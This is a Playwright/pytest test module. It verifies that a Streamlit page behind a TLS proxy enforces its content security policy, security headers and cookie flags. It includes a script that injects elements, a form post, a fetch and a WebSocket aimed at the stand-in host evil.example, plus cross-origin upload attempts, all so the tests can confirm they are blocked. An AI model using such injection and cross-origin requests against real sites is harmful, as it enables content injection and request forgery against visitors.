"""The page as people reach it: through the real proxy over TLS, with its policy in force in a real browser."""

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Playwright, Route, expect

from tests.browser.conftest import (
    ARGUMENTS,
    CHROMIUM,
    NEEDS_CHROMIUM,
    Contexts,
    ask,
    entered,
    page_at,
    picture,
)
from tests.fake_api import serve
from tests.fake_state import Site
from tests.proxy import PUBLIC_HOST, Behind, ports, proxied

pytestmark = NEEDS_CHROMIUM
EVIL = "https://evil.example"
# The protobuf library of Streamlit's page tries WebAssembly first, and does without where it may not.
REFUSED_BY_DESIGN = "script-src wasm-eval "
# Chromium's own guard of local addresses would refuse another site before our rules are asked.
ON_ITS_OWN = "--disable-features=LocalNetworkAccessChecks"
# Every break of the policy is an event of the document it happens in.
WATCH = """
window.broken = [];
document.addEventListener('securitypolicyviolation', (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Give the port of the proxy, which stands before a page process that talks to the fake API."""
    folder = tmp_path_factory.mktemp("proxy")
    (door,) = ports(1)
    with (
        serve(Site(pace_s=0.02)) as api,
        page_at(api, "--public-url", f"https://{PUBLIC_HOST}:{door}") as page,
    ):
        behind = Behind(page.removeprefix("http://"), api.removeprefix("http://"))
        with proxied(folder, behind, door=door, with_tls=True):
            yield door


@pytest.fixture(scope="module")
def address(door: int) -> str:
    """Give the public address."""
    return f"https://{PUBLIC_HOST}:{door}"


@pytest.fixture(scope="module")
def chromium(playwright: Playwright) -> Iterator[Browser]:
    """Give a browser for which the public name leads here."""
    rules = f"--host-resolver-rules=MAP {PUBLIC_HOST} 127.0.0.1,MAP evil.example 127.0.0.1"
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*ARGUMENTS, rules, ON_ITS_OWN])
    yield browser
    browser.close()


def trusting(contexts: Contexts, *others: str) -> BrowserContext:
    """Return a fresh context that trusts the test's certificate and notes every break of the policy."""
    context = contexts(*others, ignore_https_errors=True)
    context.add_init_script(WATCH)
    return context


def test_the_whole_page_works_under_the_policy(contexts: Contexts, address: str, tmp_path: Path) -> None:
    """Asking, the document beside the answer, upload and download break no rule."""
    page = entered(trusting(contexts), address)
    ask(page, "What may I claim for a hotel?")
    page.locator(".im-chip-supported").first.click()
    expect(page.locator(".im-page img")).to_be_visible()
    assert page.locator(".im-page img").evaluate("image => image.naturalWidth") > 0
    with page.expect_download() as download:
        page.get_by_role("button", name="Download").click()
    download.value.save_as(tmp_path / "original")
    assert (tmp_path / "original").read_bytes().startswith(b"original of ")
    picture(page, "proxied")
    page.get_by_role("button", name="Documents", exact=True).click()
    page.get_by_text("Add documents").first.click()
    page.locator('input[type="file"]').set_input_files(
        {"name": "minutes.txt", "mimeType": "text/plain", "buffer": b"We agreed on blue."}
    )
    page.get_by_role("button", name="Take in").click()
    expect(page.get_by_text("Files handed over: 1.")).to_be_visible()
    page.get_by_role("button", name="Intake", exact=True).click()
    expect(page.get_by_role("heading", name="Intake")).to_be_visible()
    assert set(page.evaluate("window.broken")) <= {REFUSED_BY_DESIGN}


SMUGGLE = """
(evil) => {
  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  add('img', { src: evil + '/picture' });
  add('script', { src: evil + '/script' });
  add('script', { textContent: 'window.ran = true' });
  add('iframe', { src: evil + '/frame' });
  add('link', { rel: 'stylesheet', href: evil + '/style' });
  add('object', { data: evil + '/object' });
  const form = document.createElement('form');
  Object.assign(form, { action: evil + '/form', method: 'post' });
  document.body.append(form);
  form.submit();
  setTimeout('window.ran = true');
  fetch(evil + '/fetch').catch(() => null);
  try { new WebSocket('wss' + evil.slice(5) + '/socket'); } catch (error) { /* refused at once */ }
}
"""


def test_what_is_smuggled_in_reaches_nobody(contexts: Contexts, address: str) -> None:
    """The control: even if foreign HTML or script got into the page, no other origin is asked for anything."""
    context = trusting(contexts, EVIL)
    page = entered(context, address)
    reached: list[str] = []

    def refuse(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context.route(f"{EVIL}/**", refuse)
    page.evaluate("window.broken = []")
    page.evaluate(SMUGGLE, EVIL)
    page.wait_for_function("window.broken.length >= 8")
    directives = {one.split()[0] for one in page.evaluate("window.broken")}
    page.wait_for_function("window.broken.some((one) => one.includes(' eval'))")
    wanted = {
        "img-src",
        "script-src-elem",
        "frame-src",
        "style-src-elem",
        "object-src",
        "form-action",
        "connect-src",
    }
    assert wanted <= directives
    assert reached == []
    assert page.evaluate("window.ran") is None


def test_another_site_neither_frames_nor_writes(contexts: Contexts, address: str) -> None:
    """A page of another origin shows no frame of ours, sends no file and opens no stream in a visitor's name."""
    context = trusting(contexts, EVIL)
    entered(context, address)
    page = context.new_page()
    context.route(
        f"{EVIL}/",
        lambda route: route.fulfill(body="<iframe></iframe>", content_type="text/html"),
    )
    page.goto(f"{EVIL}/")
    with page.expect_event("requestfailed") as failed:
        page.evaluate("address => { document.querySelector('iframe').src = address }", address)
    assert "BLOCKED_BY_RESPONSE" in str(failed.value.failure)
    sent = page.evaluate(
        """async (ours) => {
          const send = (method, path) => fetch(ours + path, { method, credentials: 'include', body: 'x' })
            .then((reply) => reply.status, () => 'refused');
          const opened = await new Promise((resolve) => {
            const socket = new WebSocket(ours.replace('https', 'wss') + '/_stcore/stream', 'streamlit');
            socket.onopen = () => resolve('open');
            socket.onerror = () => resolve('refused');
          });
          const file = '/_stcore/upload_file/a/b';
          return [await send('POST', file), await send('PUT', file), opened];
        }""",
        address,
    )
    assert sent == ["refused", "refused", "refused"]


def test_doors_of_streamlit_stay_shut(door: int) -> None:
    """Said to any client: a stream of a foreign origin and an upload without the page's token are 403, counters 404."""
    ours = f"https://127.0.0.1:{door}"
    host = {"Host": f"{PUBLIC_HOST}:{door}"}
    extensions = {"sni_hostname": PUBLIC_HOST}
    with httpx.Client(verify=False, trust_env=False, headers=host) as client:
        for path in ("/_stcore/metrics", "/_stcore/agent/openapi.json", "/_stcore/agent/mcp"):
            assert client.get(ours + path, extensions=extensions).status_code == 404
        upgrade = {
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Protocol": "streamlit",
        }
        for origin, expected in (("https://evil.example", 403), (f"https://{PUBLIC_HOST}:{door}", 101)):
            headers = upgrade | {"Origin": origin}
            with client.stream(
                "GET", ours + "/_stcore/stream", headers=headers, extensions=extensions
            ) as reply:
                assert reply.status_code == expected, origin
        for method in ("PUT", "POST", "DELETE"):
            reply = client.request(
                method, ours + "/_stcore/upload_file/a/b", headers={"Origin": "https://evil.example"},
                content=b"x", extensions=extensions,
            )  # fmt: skip
            assert reply.status_code in {403, 405}, (method, reply.status_code)


def test_headers_reach_the_browser(contexts: Contexts, address: str) -> None:
    """What the proxy promises is what the browser got, and cookies go back over TLS to this site alone."""
    context = trusting(contexts)
    page = context.new_page()
    reply = page.goto(address)
    assert reply is not None
    headers = reply.all_headers()
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["strict-transport-security"].startswith("max-age=")
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    expect(page.get_by_role("button", name="Continue as Anna")).to_be_visible()
    cookies = context.cookies()
    assert [cookie["name"] for cookie in cookies if not cookie["secure"] or cookie["sameSite"] != "Lax"] == []
    assert {cookie["name"] for cookie in cookies if not cookie["httpOnly"]} <= {"_streamlit_xsrf"}
    assert cookies
